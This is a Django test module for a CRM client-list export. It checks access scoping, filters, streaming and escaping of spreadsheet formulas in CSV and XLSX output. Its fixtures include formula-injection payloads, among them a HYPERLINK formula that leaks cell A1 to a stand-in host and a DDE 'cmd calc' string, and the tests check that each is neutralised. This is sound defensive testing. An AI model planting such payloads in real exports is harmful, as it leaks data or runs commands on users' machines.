"""Export of the filtered client list: scoping, filters, formula-injection safety, round trip."""

import csv
import io

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse
from openpyxl import load_workbook

from clients.imports.exports import CLIENT_EXPORT_COLUMNS, escape_cell
from clients.models import Client, ImportJob
from tests.clients.test_import_views import english, media_root, upload  # noqa: F401
from tests.factories import ClientFactory, TargetSegmentFactory

EXPORT = reverse("clients:export")
NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=cmd",
    "\r=cmd",
]


def csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")  # Excel needs the BOM to read Cyrillic
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response):
    return list(load_workbook(io.BytesIO(b"".join(response.streaming_content))).active.rows)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+7 495", "'+7 495"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("ООО «Ромашка»", "ООО «Ромашка»"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, ""),
    ],
)
def test_escape_cell(value, expected):
    assert escape_cell(value) == expected


def test_csv_export_is_safe_against_formula_injection(manager_client):
    for i, value in enumerate(NASTY):
        ClientFactory(name=f"{i} {value}" if i else value, notes=value, city=value)
    response = manager_client.get(EXPORT, {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == CLIENT_EXPORT_COLUMNS
    notes = [row[CLIENT_EXPORT_COLUMNS.index("notes")] for row in rows[1:]]
    cities = [row[CLIENT_EXPORT_COLUMNS.index("city")] for row in rows[1:]]
    assert sorted(notes) == sorted("'" + v for v in NASTY)
    assert cities == notes
    names = {row[1] for row in rows[1:]}
    assert "'" + NASTY[0] in names


def test_xlsx_export_is_safe_against_formula_injection(manager_client):
    for value in NASTY:
        ClientFactory(notes=value, employees=12)
    response = manager_client.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = xlsx_rows(response)
    assert [c.value for c in rows[0]] == CLIENT_EXPORT_COLUMNS
    notes_col = CLIENT_EXPORT_COLUMNS.index("notes")
    cells = [row[notes_col] for row in rows[1:]]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula
    # (XML turns a stored carriage return into a line feed on reading)
    expected = sorted("'" + v.replace("\r", "\n") for v in NASTY)
    assert sorted(cell.value for cell in cells) == expected
    employees = rows[1][CLIENT_EXPORT_COLUMNS.index("employees")]
    assert (employees.value, employees.data_type) == (12, "n")


def test_account_manager_exports_only_their_clients(owner_client, owner, outsider):
    ClientFactory(name="Mine", account_manager=owner)
    ClientFactory(name="Theirs", account_manager=outsider)
    ClientFactory(name="Nobody's")
    names = [row[1] for row in csv_rows(owner_client.get(EXPORT))[1:]]
    assert names == ["Mine"]


def test_manager_exports_everything(manager_client, owner, outsider):
    ClientFactory(name="A", account_manager=owner)
    ClientFactory(name="B", account_manager=outsider)
    names = [row[1] for row in csv_rows(manager_client.get(EXPORT))[1:]]
    assert names == ["A", "B"]


def test_outsider_gets_404_exporting_someone_elses_clients(outsider_client, owner, outsider):
    ClientFactory(name="Secret", account_manager=owner)
    response = outsider_client.get(EXPORT, {"format": "csv", "am": owner.pk})
    assert response.status_code == 404
    assert "Secret" not in response.content.decode()
    own = outsider_client.get(EXPORT, {"format": "xlsx", "am": outsider.pk})
    assert own.status_code == 200
    assert len(xlsx_rows(own)) == 1  # the header only: none of owner's clients


def test_outsider_gets_404_for_someone_elses_error_report(owner_client, outsider_client):
    upload(owner_client, "name,inn\n,1\n")
    job = ImportJob.objects.get()
    for fmt in ("csv", "xlsx"):
        response = outsider_client.get(
            reverse("clients:import_report", args=[job.pk]), {"format": fmt}
        )
        assert response.status_code == 404


def test_export_follows_the_list_filters(manager_client):
    segment = TargetSegmentFactory(name="Строители")
    ClientFactory(name="In segment", target_segment=segment)
    ClientFactory(name="Outside")
    rows = csv_rows(manager_client.get(EXPORT, {"format": "csv", "segment": segment.pk}))
    assert [row[1] for row in rows[1:]] == ["In segment"]
    rows = csv_rows(manager_client.get(EXPORT, {"q": "outs"}))
    assert [row[1] for row in rows[1:]] == ["Outside"]


def test_export_streams_with_a_bounded_number_of_queries(
    manager_client, django_assert_max_num_queries
):
    for i in range(60):
        client = ClientFactory(name=f"C{i:03d}")
        client.tags.create(name=f"tag{i}")
    with django_assert_max_num_queries(8):
        response = manager_client.get(EXPORT)
        rows = csv_rows(response)
    assert isinstance(response, StreamingHttpResponse)
    assert len(rows) == 61
    assert rows[1][CLIENT_EXPORT_COLUMNS.index("tags")] == "tag0"


def test_unknown_format_is_a_400(manager_client):
    assert manager_client.get(EXPORT, {"format": "pdf"}).status_code == 400


def test_anonymous_cannot_export(client):
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert "/accounts/login/" in response.url


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exported_file_reimports_without_duplicates(manager_client, owner, fmt):
    segment = TargetSegmentFactory(name="Сегмент")
    ClientFactory(name="=cmd|' /C calc'!A0", account_manager=owner, target_segment=segment)
    ClientFactory(name="Без ИНН", inn="", external_id="E-7", employees=5)
    response = manager_client.get(EXPORT, {"format": fmt})
    data = b"".join(response.streaming_content)
    upload(manager_client, data, name=f"export.{fmt}")
    job = ImportJob.objects.latest("id")
    assert (job.status, job.created_count, job.updated_count) == ("done", 0, 2), job.message
    assert Client.objects.count() == 2
    assert Client.objects.filter(name="=cmd|' /C calc'!A0", account_manager=owner).exists()


def test_control_characters_do_not_break_the_xlsx_export(manager_client):
    """A bell or another control character pasted into any client field once made the whole
    XLSX a 500: they are dropped from the workbook (a sheet cannot hold them); the CSV keeps the
    value as stored. (NUL never gets stored: forms and the API refuse it, PostgreSQL too.)"""
    ClientFactory(name="Bell\u0007 Co", notes="line\x01one\x1fend\ttab", city="Mos\x0bcow")
    response = manager_client.get(EXPORT, {"format": "xlsx"})
    assert response.status_code == 200
    row = [cell.value for cell in xlsx_rows(response)[1]]
    column = CLIENT_EXPORT_COLUMNS.index
    assert row[column("name")] == "Bell Co"
    assert row[column("notes")] == "lineoneend\ttab"  # tab, newline and CR are legal in XML
    assert row[column("city")] == "Moscow"
    csv_row = csv_rows(manager_client.get(EXPORT, {"format": "csv"}))[1]
    assert csv_row[column("name")] == "Bell\u0007 Co"


@pytest.mark.parametrize(
    ("value", "expected"),
    [("a\x07b", "ab"), ("=x\x00", "'=x"), (5, 5), (None, ""), ("ok\n", "ok\n")],
)
def test_xlsx_cell(value, expected):
    from clients.imports.exports import xlsx_cell

    assert xlsx_cell(value) == expected
